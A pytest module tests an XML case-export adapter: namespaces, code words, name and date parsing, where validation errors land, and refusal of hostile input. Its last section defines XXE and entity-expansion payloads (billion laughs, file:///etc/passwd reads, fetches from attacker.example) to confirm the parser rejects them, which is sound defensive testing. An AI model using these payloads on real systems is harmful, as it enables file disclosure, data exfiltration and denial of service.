"""The xml_case_export adapter: conformance, namespaces, code words, names, paths, hostile XML."""

from __future__ import annotations

import io
import re
from pathlib import Path
from typing import Any, ClassVar

import pytest

from adapters.base import PayloadRejected, RawRecord, RecordRejected
from adapters.testing import AdapterConformance, Malformed, Sample, parse_all
from adapters.xml_case_export import XmlCaseExportAdapter, XmlCaseExportConfig
from adapters.xml_case_export.codes import (
    ADDRESS_STATUS,
    CODE_TABLES,
    FLAG,
    GENDER,
    LENGTH_UNIT,
    REGISTRATION_TYPE,
    REQUIREMENT_CATEGORY,
    REQUIREMENT_UNIT,
    RISK_LEVEL,
    SENTENCE_TYPE,
    CodeTable,
)
from adapters.xml_case_export.format import CONTACT_NAMESPACE, EXPORT_NAMESPACE
from adapters.xml_case_export.values import read_date, split_name
from schemas import (
    AddressStatus,
    CaseRecord,
    RegistrationType,
    RequirementCategory,
    RoshLevel,
    SentenceType,
    Sex,
)

PACKAGE = Path(__file__).parents[2] / "adapters" / "xml_case_export"
SAMPLES = PACKAGE / "samples"
XML = "application/xml"

ADAPTER = XmlCaseExportAdapter(XmlCaseExportConfig())

NAME = "<Person><Name>FICTIONWORTH, Zebedee</Name></Person>"


def document(*cases: str, declaration: str = '<?xml version="1.0" encoding="UTF-8"?>\n') -> bytes:
    """A whole export around case elements written with the default prefixes."""
    body = "\n".join(cases)
    return (
        f'{declaration}<CaseExport xmlns="{EXPORT_NAMESPACE}" xmlns:ct="{CONTACT_NAMESPACE}" '
        f'exportedAt="2024-03-01T02:00:00Z">\n{body}\n</CaseExport>\n'
    ).encode()


def case(body: str = NAME, *, attributes: str = 'id="CW-1"') -> str:
    return f"<Case {attributes}>{body}</Case>"


def event(body: str, *, attributes: str = 'number="1"') -> str:
    return f"{NAME}<Events><Event {attributes}>{body}</Event></Events>"


def parse(payload: bytes, adapter: XmlCaseExportAdapter = ADAPTER) -> list[RawRecord]:
    return parse_all(adapter, payload, XML)


def translate_one(body: str, *, attributes: str = 'id="CW-1"') -> CaseRecord:
    (raw,) = parse(document(case(body, attributes=attributes)))
    assert not raw.errors
    return ADAPTER.translate(raw.data)


def rejected_paths(body: str, *, attributes: str = 'id="CW-1"') -> set[str]:
    (raw,) = parse(document(case(body, attributes=attributes)))
    with pytest.raises(RecordRejected) as caught:
        ADAPTER.translate(raw.data)
    for error in caught.value.errors:
        assert error["message"]
    return {error["path"] for error in caught.value.errors}


BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE CaseExport [\n <!ENTITY lol "lol">\n'
    + b"".join(
        f' <!ENTITY lol{n} "{f"&lol{n - 1};" * 10 if n > 1 else "&lol;" * 10}">\n'.encode()
        for n in range(1, 10)
    )
    + f']>\n<CaseExport xmlns="{EXPORT_NAMESPACE}"><Case id="a">&lol9;</Case></CaseExport>'.encode()
)


class TestXmlCaseExportConformance(AdapterConformance):
    adapter: ClassVar[XmlCaseExportAdapter] = ADAPTER
    samples: ClassVar[list[Sample]] = [
        Sample(SAMPLES / "case-export-v2.xml", XML, expect_records=5),
        Sample(SAMPLES / "case-export-prefixed-latin1.xml", "text/xml", expect_records=2),
    ]
    malformed: ClassVar[list[Malformed]] = [
        Malformed(
            document(case(event("<Sentence><Type>Weekend Detention</Type></Sentence>"))),
            XML,
            paths={"Events/Event[1]/Sentence/Type"},
        ),
        Malformed(document(case("<Person><Name>  </Name></Person>")), XML, paths={"Person/Name"}),
        Malformed(
            document(
                case(f"{NAME[:-9]}<DateOfBirth>31/02/1990</DateOfBirth></Person>"),
                case(f"{NAME[:-9]}<Identifiers><PNC>2002/0073319A</PNC></Identifiers></Person>"),
            ),
            XML,
            paths={"Person/DateOfBirth", "Person/Identifiers/PNC"},
        ),
        Malformed(document(case(attributes='version="2"')), XML, paths={"@id"}),
        Malformed(document("<Summary cases='1'/>"), XML, paths={"Summary"}),
        Malformed(BILLION_LAUGHS, XML, payload_rejected=True),
        Malformed(b"CRN,Surname\nX320741,Fictionworth\n", "text/xml", payload_rejected=True),
        Malformed(b'<CaseExport xmlns="urn:other"/>', XML, payload_rejected=True),
    ]


# Samples: what the shipped files hold.


def test_the_sample_translates_the_way_the_format_says() -> None:
    records = [
        ADAPTER.translate(raw.data) for raw in parse((SAMPLES / "case-export-v2.xml").read_bytes())
    ]
    first, second, third, fourth, fifth = records
    assert first.provenance.external_id == "CW-0000017"
    assert first.provenance.source_version == "12"
    assert first.provenance.source_updated_at is not None
    assert first.provenance.source_updated_at.isoformat() == "2024-02-28T16:41:09+00:00"
    assert first.person.identifiers.pnc == "2002/0073319Z"
    assert first.person.identifiers.cro == "065656/91H"
    assert first.person.identifiers.nino == "AB123456C"
    assert first.person.addresses[0].postcode == "LS1 4AP"
    assert first.person.addresses[0].lines == ["Flat 2", "12 Imaginary Road"]
    assert first.person.aliases[0].surname == "MADEUPSON"
    assert first.person.contact is not None
    assert first.person.contact.mobile == "07700 900123"
    assert second.person.surname == "O'NEILL-SMITH"
    assert second.person.forenames == ["Mary", "Anne"]
    assert second.person.addresses[0].no_fixed_abode is True
    assert second.case is not None
    assert second.case.tier is not None
    assert second.case.tier.value == "A3"
    assert [e.active for e in second.case.events] == [False, True]
    mappa = second.case.registrations[1]
    assert (mappa.type, mappa.mappa_category, mappa.mappa_level) == (RegistrationType.MAPPA, 2, 1)
    assert third.person.surname == "VAN DER PRETEND"
    assert third.person.sex is Sex.NOT_KNOWN
    assert fourth.case is None
    assert fifth.case is not None
    assert fifth.case.events[0].sentence is not None
    assert fifth.case.events[0].sentence.type is SentenceType.CUSTODY


# Namespaces.


def test_the_same_case_with_other_prefixes_gives_the_same_raw_record() -> None:
    default = parse(
        document(
            case(
                "<Person><Name>DOE, Jo</Name><ct:Contact><ct:Email>j@example.org</ct:Email>"
                "</ct:Contact></Person>"
            )
        )
    )
    prefixed = parse(
        f'<x:CaseExport xmlns:x="{EXPORT_NAMESPACE}"><x:Case id="CW-1">'
        f'<x:Person xmlns:addr="{CONTACT_NAMESPACE}"><x:Name>DOE, Jo</x:Name>'
        "<addr:Contact><addr:Email>j@example.org</addr:Email></addr:Contact></x:Person>"
        "</x:Case></x:CaseExport>".encode()
    )
    redeclared = parse(
        f'<CaseExport xmlns="{EXPORT_NAMESPACE}"><Case id="CW-1" xmlns="{EXPORT_NAMESPACE}">'
        f'<Person><Name>DOE, Jo</Name><Contact xmlns="{CONTACT_NAMESPACE}">'
        "<Email>j@example.org</Email></Contact></Person></Case></CaseExport>".encode()
    )
    assert [raw.data for raw in default] == [raw.data for raw in prefixed]
    assert [raw.data for raw in prefixed] == [raw.data for raw in redeclared]
    record = ADAPTER.translate(prefixed[0].data)
    assert record.person.contact is not None
    assert record.person.contact.email == "j@example.org"


def test_a_raw_record_declares_its_namespaces_and_parses_on_its_own() -> None:
    (raw,) = parse(
        f'<e:CaseExport xmlns:e="{EXPORT_NAMESPACE}" xmlns:c="{CONTACT_NAMESPACE}" '
        'xmlns:k="urn:example:kestrel"><e:Case id="CW-1" k:score="3">'
        "<e:Person><e:Name>DOE, Jo</e:Name><c:Addresses><c:Address status='Main'>"
        "<c:Town>Leeds</c:Town></c:Address></c:Addresses></e:Person>"
        "<k:Note xml:lang='en'>extension</k:Note></e:Case></e:CaseExport>".encode()
    )
    xml = raw.data["xml"]
    # Declared in order of first use; the case's own attributes are written last.
    assert xml.startswith(
        f'<Case xmlns="{EXPORT_NAMESPACE}" xmlns:ct="{CONTACT_NAMESPACE}" '
        'xmlns:ns1="urn:example:kestrel" id="CW-1" ns1:score="3">'
    )
    assert '<ns1:Note xml:lang="en">extension</ns1:Note>' in xml
    assert ADAPTER.translate(raw.data).person.addresses[0].town == "Leeds"


def test_elements_of_another_namespace_are_ignored_wherever_they_are() -> None:
    record = translate_one(
        '<Person xmlns:k="urn:example:kestrel"><k:Score>9</k:Score><Name k:note="x">DOE, Jo'
        "</Name></Person>"
    )
    assert record.person.surname == "DOE"


def test_a_document_in_no_namespace_is_refused() -> None:
    with pytest.raises(PayloadRejected, match="no namespace"):
        parse(b'<CaseExport><Case id="1"><Person><Name>DOE, J</Name></Person></Case></CaseExport>')


def test_an_element_of_the_format_namespace_it_does_not_define_is_an_error() -> None:
    assert rejected_paths(f"{NAME[:-9]}<Surname>DOE</Surname></Person>") == {"Person/Surname"}
    assert rejected_paths(f"{NAME[:-9]}<Gender colour='blue'>Male</Gender></Person>") == {
        "Person/Gender/@colour"
    }
    assert rejected_paths(f"{NAME[:-9]}<Gender>Male</Gender><Gender>Female</Gender></Person>") == {
        "Person/Gender[2]"
    }
    # Right name, wrong namespace: an address outside the contact namespace.
    assert rejected_paths(
        f"{NAME[:-9]}<Addresses><Address status='Main'/></Addresses></Person>"
    ) == {"Person/Addresses"}


def test_a_child_of_the_root_that_is_not_a_case_is_reported_not_lost() -> None:
    records = parse(
        document(
            case(attributes='id="CW-1"'),
            "<Summary count='2'><Total>2</Total></Summary>",
            '<k:Footer xmlns:k="urn:example:kestrel"/>',
            case(attributes='id="CW-2"'),
        )
    )
    assert [r.external_id for r in records] == ["CW-1", None, "CW-2"]
    assert records[1].errors[0]["type"] == "unexpected_element"
    assert records[1].errors[0]["path"] == "Summary"
    assert records[2].position == "case 2 (line 6)"


def test_configured_names_and_namespaces_are_honoured() -> None:
    adapter = XmlCaseExportAdapter(
        XmlCaseExportConfig(
            namespace="urn:example:cms:3",
            contact_namespace="urn:example:contact:2",
            root_element="Export",
            record_element="Record",
        )
    )
    payload = (
        b'<Export xmlns="urn:example:cms:3" xmlns:a="urn:example:contact:2">'
        b'<Record id="R-1"><Person><Name>DOE, Jo</Name><a:Contact><a:Mobile>07700 900000'
        b"</a:Mobile></a:Contact></Person></Record></Export>"
    )
    (raw,) = parse(payload, adapter)
    record = adapter.translate(raw.data)
    assert record.person.contact is not None
    assert record.person.contact.mobile == "07700 900000"
    with pytest.raises(PayloadRejected):
        parse(document(case()), adapter)


def test_the_config_refuses_one_namespace_for_both() -> None:
    with pytest.raises(ValueError, match="must differ"):
        XmlCaseExportConfig(contact_namespace=EXPORT_NAMESPACE)
    with pytest.raises(ValueError):
        XmlCaseExportConfig(record_element="not a name")
    with pytest.raises(ValueError):
        XmlCaseExportConfig.model_validate({"max_case_bytes": 10})


# Code words.


def _every_word() -> list[tuple[str, CodeTable[Any], Any, str]]:
    return [
        (table.what, table, code, word)
        for table in (*CODE_TABLES, FLAG)
        for code, words in table.words.items()
        for word in words
    ]


@pytest.mark.parametrize(
    ("what", "table", "code", "word"),
    _every_word(),
    ids=[f"{what}:{word}" for what, _, _, word in _every_word()],
)
def test_every_code_word_maps_whatever_its_case_and_spacing(
    what: str, table: CodeTable[Any], code: Any, word: str
) -> None:
    for spelling in (word, word.upper(), word.lower(), f"  {word.replace(' ', '   ')} "):
        assert table.lookup(spelling) == code, spelling
    assert table.lookup(word.replace(" ", "-")) == code


@pytest.mark.parametrize("table", CODE_TABLES, ids=lambda table: table.what)
def test_the_canonical_spelling_is_a_word_too(table: CodeTable[Any]) -> None:
    for code in table.words:
        assert table.lookup(code.value) == code


def test_format_md_lists_every_code_word() -> None:
    text = (PACKAGE / "FORMAT.md").read_text()
    for _, table, code, word in _every_word():
        if table is FLAG:
            continue
        singular = word[:-1] if word.endswith("s") else word
        assert word in text or f"{word}s" in text or singular in text, word
        assert code.value in text, code


def _case_using(table: CodeTable[Any], word: str) -> tuple[str, str]:
    """A case body with `word` in the table's element, and the error path of that element."""
    sentence = "<Sentence><Type>{}</Type></Sentence>"
    requirement = "<Requirements><Requirement>{}</Requirement></Requirements>"
    extra = ""
    if table is REGISTRATION_TYPE:
        code = table.lookup(word)
        if code is RegistrationType.ROSH:
            extra = "<RiskLevel>Low</RiskLevel>"
        elif code is RegistrationType.MAPPA:
            extra = "<MappaCategory>1</MappaCategory><MappaLevel>1</MappaLevel>"
    bodies: dict[str, tuple[str, str]] = {
        GENDER.what: (f"{NAME[:-9]}<Gender>{word}</Gender></Person>", "Person/Gender"),
        ADDRESS_STATUS.what: (
            f"{NAME[:-9]}<ct:Addresses><ct:Address status='{word}'/></ct:Addresses></Person>",
            "Person/Addresses/Address[1]/@status",
        ),
        SENTENCE_TYPE.what: (event(sentence.format(word)), "Events/Event[1]/Sentence/Type"),
        LENGTH_UNIT.what: (
            event(f"<Sentence><Type>Custody</Type><Length unit='{word}'>3</Length></Sentence>"),
            "Events/Event[1]/Sentence/Length/@unit",
        ),
        REQUIREMENT_CATEGORY.what: (
            event(requirement.format(f"<Category>{word}</Category>")),
            "Events/Event[1]/Requirements/Requirement[1]/Category",
        ),
        REQUIREMENT_UNIT.what: (
            event(
                requirement.format(f"<Category>Other</Category><Amount unit='{word}'>3</Amount>")
            ),
            "Events/Event[1]/Requirements/Requirement[1]/Amount/@unit",
        ),
        REGISTRATION_TYPE.what: (
            f"{NAME}<Registrations><Registration><Type>{word}</Type>{extra}"
            "</Registration></Registrations>",
            "Registrations/Registration[1]/Type",
        ),
        RISK_LEVEL.what: (
            f"{NAME}<Registrations><Registration><Type>RoSH</Type><RiskLevel>{word}"
            "</RiskLevel></Registration></Registrations>",
            "Registrations/Registration[1]/RiskLevel",
        ),
        FLAG.what: (event("", attributes=f'number="1" active="{word}"'), "Events/Event[1]/@active"),
    }
    return bodies[table.what]


def _read_code(table: CodeTable[Any], record: CaseRecord) -> Any:
    case = record.case
    if table is GENDER:
        return record.person.sex
    if table is ADDRESS_STATUS:
        return record.person.addresses[0].status
    assert case is not None
    if table is REGISTRATION_TYPE:
        return case.registrations[0].type
    if table is RISK_LEVEL:
        return case.registrations[0].rosh_level
    first = case.events[0]
    if table is FLAG:
        return first.active
    if table is SENTENCE_TYPE:
        assert first.sentence is not None
        return first.sentence.type
    if table is LENGTH_UNIT:
        assert first.sentence is not None
        return first.sentence.length_unit
    if table is REQUIREMENT_CATEGORY:
        return first.requirements[0].category
    return first.requirements[0].unit


@pytest.mark.parametrize(
    ("what", "table", "code", "word"),
    _every_word(),
    ids=[f"{what}:{word}" for what, _, _, word in _every_word()],
)
def test_every_code_word_reaches_the_canonical_record(
    what: str, table: CodeTable[Any], code: Any, word: str
) -> None:
    body, _ = _case_using(table, word.upper())
    assert _read_code(table, translate_one(body)) == code


@pytest.mark.parametrize("table", [*CODE_TABLES, FLAG], ids=lambda table: table.what)
def test_an_unknown_code_word_is_rejected_on_its_element(table: CodeTable[Any]) -> None:
    body, path = _case_using(table, "Flibbertigibbet")
    assert rejected_paths(body) == {path}


def test_an_unknown_word_error_lists_the_words_and_not_the_value() -> None:
    (raw,) = parse(document(case(event("<Sentence><Type>Hard Labour</Type></Sentence>"))))
    with pytest.raises(RecordRejected) as caught:
        ADAPTER.translate(raw.data)
    (error,) = caught.value.errors
    assert error["type"] == "unknown_code"
    assert "Community Order" in error["message"]
    assert "Hard Labour" not in error["message"]


def test_the_older_spellings_in_the_sample_map_to_canonical_codes() -> None:
    record = ADAPTER.translate(parse((SAMPLES / "case-export-v2.xml").read_bytes())[1].data)
    assert record.case is not None
    assert record.case.registrations[0].rosh_level is RoshLevel.VERY_HIGH
    assert record.person.addresses[0].status is AddressStatus.MAIN
    assert record.case.events[0].requirements[0].category is RequirementCategory.DRUG_TREATMENT


# Names and dates.


@pytest.mark.parametrize(
    ("written", "surname", "forenames"),
    [
        ("FICTIONWORTH, Zebedee Peregrine", "FICTIONWORTH", ["Zebedee", "Peregrine"]),
        ("O'NEILL-SMITH, Mary Anne", "O'NEILL-SMITH", ["Mary", "Anne"]),
        ("  O'NEILL-SMITH ,   Mary   Anne  ", "O'NEILL-SMITH", ["Mary", "Anne"]),
        ("VAN DER BERG, Jan", "VAN DER BERG", ["Jan"]),
        ("Van  Der Berg,", "Van Der Berg", []),
        ("MADEUPSON", "MADEUPSON", []),
        ("MADEUPSON,Zeb", "MADEUPSON", ["Zeb"]),
        ("PRETENDLEY, Barnaby, Clement", "PRETENDLEY", ["Barnaby", "Clement"]),
        # No comma: the capitalised words are the surname, at either end.
        ("SMITH John", "SMITH", ["John"]),
        ("O'NEILL-SMITH Mary Anne", "O'NEILL-SMITH", ["Mary", "Anne"]),
        ("Mary Anne O'NEILL-SMITH", "O'NEILL-SMITH", ["Mary", "Anne"]),
        ("VAN DER BERG Jan", "VAN DER BERG", ["Jan"]),
        ("Mary J SMITH", "SMITH", ["Mary", "J"]),
        ("SMITH J", "SMITH", ["J"]),
        # No comma and no capitals to go by: the format's order, surname first.
        ("Smith John", "Smith", ["John"]),
        ("SMITH JOHN", "SMITH", ["JOHN"]),
        ("Zoë BRONTË", "BRONTË", ["Zoë"]),
    ],
)
def test_a_name_splits_into_surname_and_forenames(
    written: str, surname: str, forenames: list[str]
) -> None:
    assert split_name(written) == (surname, forenames)


@pytest.mark.parametrize("written", ["", "   ", ", Mary", " ,Mary Anne"])
def test_a_name_without_a_surname_is_refused(written: str) -> None:
    with pytest.raises(ValueError, match=r"name"):
        split_name(written)


@pytest.mark.parametrize("body", ["<Person><Name/></Person>", "<Person><Name>, Jo</Name></Person>"])
def test_an_empty_name_rejects_the_record_at_person_name(body: str) -> None:
    assert rejected_paths(body) == {"Person/Name"}


def test_a_case_without_a_person_is_rejected() -> None:
    assert rejected_paths("<Events/>") == {"Person"}


def test_too_many_forenames_are_reported_on_the_name() -> None:
    names = " ".join(["Jo"] * 11)
    assert rejected_paths(f"<Person><Name>DOE, {names}</Name></Person>") == {"Person/Name"}


@pytest.mark.parametrize(
    ("written", "iso"),
    [("2024-04-03", "2024-04-03"), ("03/04/2024", "2024-04-03"), ("3/4/2024", "2024-04-03")],
)
def test_dates_are_iso_or_day_first(written: str, iso: str) -> None:
    assert read_date(written).isoformat() == iso


@pytest.mark.parametrize("written", ["2024-4-3", "04-03-2024", "2024/04/03", "31/02/2024", "x"])
def test_other_dates_are_refused(written: str) -> None:
    with pytest.raises(ValueError, match="date"):
        read_date(written)


# Error paths: canonical validation errors land on the source element.


@pytest.mark.parametrize(
    ("body", "attributes", "paths"),
    [
        (
            f"{NAME[:-9]}<DateOfBirth>1990-13-01</DateOfBirth></Person>",
            None,
            {"Person/DateOfBirth"},
        ),
        (
            f"{NAME[:-9]}<Identifiers><CRN>X32074</CRN><NINO>QQ123456C</NINO></Identifiers>"
            "</Person>",
            None,
            {"Person/Identifiers/CRN", "Person/Identifiers/NINO"},
        ),
        (
            f"{NAME[:-9]}<ct:Addresses><ct:Address status='Main'/><ct:Address status='Main'>"
            "<ct:Postcode>NOT A POSTCODE</ct:Postcode></ct:Address></ct:Addresses></Person>",
            None,
            {"Person/Addresses/Address[2]/Postcode"},
        ),
        (
            f"{NAME[:-9]}<ct:Addresses><ct:Address status='Main'>"
            + "<ct:Line>x</ct:Line>" * 7
            + "</ct:Address></ct:Addresses></Person>",
            None,
            {"Person/Addresses/Address[1]/Line"},
        ),
        (
            f"{NAME[:-9]}<ct:Addresses><ct:Address status='Previous'><ct:From>2024-01-02"
            "</ct:From><ct:To>2023-01-01</ct:To></ct:Address></ct:Addresses></Person>",
            None,
            {"Person/Addresses/Address[1]"},
        ),
        (
            f"{NAME[:-9]}<ct:Contact><ct:Email>not-an-email</ct:Email></ct:Contact></Person>",
            None,
            {"Person/Contact/Email"},
        ),
        (
            f"{NAME[:-9]}<Aliases><Alias/><Alias dateOfBirth='1/1/1'>DOE, J</Alias></Aliases>"
            "</Person>",
            None,
            {"Person/Aliases/Alias[1]", "Person/Aliases/Alias[2]/@dateOfBirth"},
        ),
        (
            event(
                "<Sentence><Type>Custody</Type><StartDate>2024-02-01</StartDate>"
                "<ExpectedEndDate>2024-01-01</ExpectedEndDate></Sentence>"
            ),
            None,
            {"Events/Event[1]/Sentence"},
        ),
        (
            event("<Sentence><Type>Custody</Type><Length>12</Length></Sentence>"),
            None,
            {"Events/Event[1]/Sentence"},
        ),
        (
            event("<Sentence><Type>Custody</Type><Length unit='Months'>twelve</Length></Sentence>"),
            None,
            {"Events/Event[1]/Sentence/Length"},
        ),
        (
            event(
                "<Requirements><Requirement><Category>Unpaid Work</Category>"
                "<Amount unit='Days'>5</Amount></Requirement></Requirements>"
            ),
            None,
            {"Events/Event[1]/Requirements/Requirement[1]"},
        ),
        (
            event(
                "<Offences><Offence code='2800' main='true'/><Offence code='02800' main='maybe'/>"
                "</Offences>"
            ),
            None,
            {
                "Events/Event[1]/Offences/Offence[1]/@code",
                "Events/Event[1]/Offences/Offence[2]/@main",
            },
        ),
        (
            event(
                "<Offences><Offence code='02800' main='1'/><Offence code='04901' main='1'/>"
                "</Offences>"
            ),
            None,
            {"Events/Event[1]"},
        ),
        (event("<Court/>", attributes=""), None, {"Events/Event[1]/@number"}),
        (
            f"{NAME}<Events><Event number='1'/><Event number='2'/><Event number=' 1 '/></Events>",
            None,
            {"Events/Event[3]/@number"},
        ),
        (
            f"{NAME}<Registrations><Registration><Type>RoSH</Type></Registration>"
            "<Registration><Type>MAPPA</Type><MappaCategory>4</MappaCategory>"
            "<MappaLevel>1</MappaLevel></Registration>"
            "<Registration><Type>RoSH</Type><RiskLevel>Low</RiskLevel><Code>RHRH</Code>"
            "</Registration></Registrations>",
            None,
            {
                "Registrations/Registration[1]",
                "Registrations/Registration[2]/MappaCategory",
                "Registrations/Registration[3]",
            },
        ),
        (f"{NAME}<Tier assessedOn='2024-01-01'>E5</Tier>", None, {"Tier"}),
        (f"{NAME}<Tier assessedOn='2024-01-01'/>", None, {"Tier"}),
        (
            f"{NAME}<OffenderManager><Team>T1</Team></OffenderManager>",
            None,
            {"OffenderManager/Provider"},
        ),
        (NAME, 'id="CW-1" lastModified="2024-03-01T10:00:00"', {"@lastModified"}),
        (NAME, 'id="CW-1" lastModified="yesterday"', {"@lastModified"}),
        (NAME, 'id="   "', {"@id"}),
        (NAME, f'id="{"x" * 129}"', {"@id"}),
        (NAME, 'id="CW-1" colour="red"', {"@colour"}),
    ],
)
def test_validation_errors_name_the_source_element(
    body: str, attributes: str | None, paths: set[str]
) -> None:
    assert rejected_paths(body, attributes=attributes or 'id="CW-1"') == paths


def test_a_rejection_carries_the_external_id() -> None:
    (raw,) = parse(document(case("<Person><Name/></Person>", attributes='id=" CW-9 "')))
    assert raw.external_id == "CW-9"
    with pytest.raises(RecordRejected) as caught:
        ADAPTER.translate(raw.data)
    assert caught.value.external_id == "CW-9"


def test_an_id_too_long_to_record_is_no_external_id() -> None:
    # The gateway's columns hold 128 characters: a longer id must not reach them.
    (raw,) = parse(document(case(attributes=f'id="{"x" * 129}"')))
    assert raw.external_id is None
    with pytest.raises(RecordRejected) as caught:
        ADAPTER.translate(raw.data)
    assert caught.value.external_id is None


def test_validation_messages_do_not_echo_personal_data() -> None:
    (raw,) = parse(
        document(
            case(
                f"{NAME[:-9]}<DateOfBirth>12/31/1985</DateOfBirth><Identifiers>"
                "<PNC>2002/0073319A</PNC></Identifiers></Person>"
            )
        )
    )
    with pytest.raises(RecordRejected) as caught:
        ADAPTER.translate(raw.data)
    text = repr(caught.value.errors)
    assert "12/31/1985" not in text
    assert "0073319" not in text


# Translate on its own: only data parse produced is expected, anything else is rejected.


@pytest.mark.parametrize(
    "data",
    [
        None,
        "<Case/>",
        {"xml": 3},
        {"line": "x"},
        {"xml": "<Case id='1'"},
        {"xml": f'<Other xmlns="{EXPORT_NAMESPACE}"/>'},
        {"xml": '<!DOCTYPE Case [<!ENTITY a "b">]><Case id="1"/>'},
        {"xml": f'<Case xmlns="{EXPORT_NAMESPACE}" id="1">' + "<a>" * 40 + "</a>" * 40 + "</Case>"},
        {"xml": f'<Case xmlns="{EXPORT_NAMESPACE}" id="1">' + "<a>" * 100_000},
    ],
)
def test_translate_rejects_data_parse_would_not_produce(data: Any) -> None:
    with pytest.raises(RecordRejected) as caught:
        ADAPTER.translate(data)
    assert caught.value.errors[0]["message"]


def test_translate_is_pure_across_calls() -> None:
    (raw,) = parse(document(case()))
    before = dict(raw.data)
    assert ADAPTER.translate(raw.data) == ADAPTER.translate(raw.data)
    assert raw.data == before


# Hostile and broken input: PayloadRejected, never a crash, a hang or an unbounded allocation.

QUADRATIC_BLOWUP = (
    f'<?xml version="1.0"?>\n<!DOCTYPE CaseExport [<!ENTITY a "{"x" * 50_000}">]>\n'
    f'<CaseExport xmlns="{EXPORT_NAMESPACE}"><Case id="a">{"&a;" * 50_000}</Case></CaseExport>'
).encode()
EXTERNAL_FILE = (
    '<?xml version="1.0"?>\n<!DOCTYPE CaseExport [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    f'<CaseExport xmlns="{EXPORT_NAMESPACE}"><Case id="a">&xxe;</Case></CaseExport>'
).encode()
EXTERNAL_HTTP = (
    '<?xml version="1.0"?>\n<!DOCTYPE CaseExport [<!ENTITY xxe SYSTEM '
    '"http://attacker.example/steal">]>\n'
    f'<CaseExport xmlns="{EXPORT_NAMESPACE}"><Case id="a">&xxe;</Case></CaseExport>'
).encode()
PARAMETER_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE CaseExport [<!ENTITY % remote SYSTEM '
    '"http://attacker.example/evil.dtd"> %remote;]>\n'
    f'<CaseExport xmlns="{EXPORT_NAMESPACE}"/>'
).encode()
EXTERNAL_SUBSET = (
    '<?xml version="1.0"?>\n<!DOCTYPE CaseExport SYSTEM "http://attacker.example/case.dtd">\n'
    f'<CaseExport xmlns="{EXPORT_NAMESPACE}"><Case id="a"/></CaseExport>'
).encode()


@pytest.mark.parametrize(
    "payload",
    [
        BILLION_LAUGHS,
        QUADRATIC_BLOWUP,
        EXTERNAL_FILE,
        EXTERNAL_HTTP,
        PARAMETER_ENTITY,
        EXTERNAL_SUBSET,
    ],
    ids=["billion-laughs", "quadratic-blowup", "xxe-file", "xxe-http", "parameter-entity", "dtd"],
)
def test_dtds_and_entities_are_refused_before_anything_is_expanded_or_fetched(
    payload: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_network(*args: object, **kwargs: object) -> None:
        raise AssertionError("the parser tried to reach the network")

    monkeypatch.setattr("socket.socket.connect", no_network)
    monkeypatch.setattr("urllib.request.urlopen", no_network)
    with pytest.raises(PayloadRejected, match=r"DTD .* not allowed .*line 2"):
        parse(payload)


def test_an_undeclared_entity_is_refused() -> None:
    with pytest.raises(PayloadRejected, match="undefined entity"):
        parse(document(case("<Person><Name>&passwd;</Name></Person>")))


def test_elements_nested_a_hundred_thousand_deep_are_refused_not_a_crash() -> None:
    payload = document(case("<Person>" + "<Name>" * 100_000 + "x" + "</Name>" * 100_000))
    with pytest.raises(PayloadRejected, match="nest more than 32 levels deep"):
        parse(payload)


def test_a_huge_attribute_value_is_refused_as_a_token_too_long() -> None:
    payload = document(case(attributes='id="' + "x" * 3_000_000 + '"'))
    with pytest.raises(PayloadRejected, match="token longer than"):
        parse(payload)


def test_a_huge_comment_is_refused_as_a_token_too_long() -> None:
    payload = document(case(), "<!--" + "x" * 3_000_000 + "-->")
    with pytest.raises(PayloadRejected, match="token longer than"):
        parse(payload)


def test_endless_made_up_element_names_are_refused() -> None:
    names = "".join(f'<k:e{n} xmlns:k="urn:example:k"/>' for n in range(10_001))
    with pytest.raises(PayloadRejected, match="distinct element"):
        parse(document(case(), names))


def test_a_truncated_document_yields_the_cases_before_it_then_names_the_line() -> None:
    payload = document(*(case(attributes=f'id="CW-{n}"') for n in range(3)))
    cut = payload[: payload.index(b'id="CW-2"') + 40]
    yielded: list[RawRecord] = []
    with pytest.raises(PayloadRejected, match=r"line 5, column \d+") as caught:
        yielded.extend(ADAPTER.parse(io.BytesIO(cut), XML))
    assert [raw.external_id for raw in yielded] == ["CW-0", "CW-1"]
    assert "cut short" in caught.value.message


def test_malformed_xml_mid_file_ends_parsing_after_the_cases_before_it() -> None:
    cases = [case(attributes=f'id="CW-{n}"') for n in range(2_000)]
    cases[1_500] = '<Case id="bad"><Person><Name>DOE, J</Nmae></Person></Case>'
    records = ADAPTER.parse(io.BytesIO(document(*cases)), XML)
    yielded = []
    with pytest.raises(PayloadRejected, match="mismatched tag: line 1503"):
        yielded.extend(records)
    assert len(yielded) == 1_500
    assert yielded[-1].external_id == "CW-1499"


@pytest.mark.parametrize(
    ("payload", "message"),
    [
        (
            document(case("<Person><Name>BRONTË, Zoë</Name></Person>")).decode().encode("latin-1"),
            "not well-formed",
        ),
        (
            document(case(), declaration='<?xml version="1.0" encoding="UTF-16"?>'),
            "encoding specified in XML declaration is incorrect",
        ),
        (
            document(case(), declaration='<?xml version="1.0" encoding="KLINGON-8"?>'),
            "names encoding 'KLINGON-8'",
        ),
        (
            document(case(), declaration='<?xml version="1.0" encoding="Shift_JIS"?>'),
            "names encoding 'Shift_JIS'",
        ),
        (document(case(), declaration='<?xml version="1.0" encoding="rot13"?>'), "rot13"),
        (b"\xff\xfe<\x00C\x00", "cut short"),
        (b"", "no element found"),
    ],
    ids=[
        "utf8-declared-latin1-sent",
        "utf16-declared",
        "unknown",
        "multi-byte",
        "not-text",
        "bom",
        "empty",
    ],
)
def test_bytes_that_do_not_match_the_declared_encoding_are_refused(
    payload: bytes, message: str
) -> None:
    with pytest.raises(PayloadRejected, match=re.escape(message)):
        parse(payload)


def test_a_declared_single_byte_encoding_is_read_and_utf16_works() -> None:
    text = document(case("<Person><Name>BRONTË, Zoë</Name></Person>")).decode()
    windows = text.replace('encoding="UTF-8"', 'encoding="windows-1252"').encode("cp1252")
    utf16 = text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    for payload in (windows, utf16):
        (raw,) = parse(payload)
        assert ADAPTER.translate(raw.data).person.forenames == ["Zoë"]
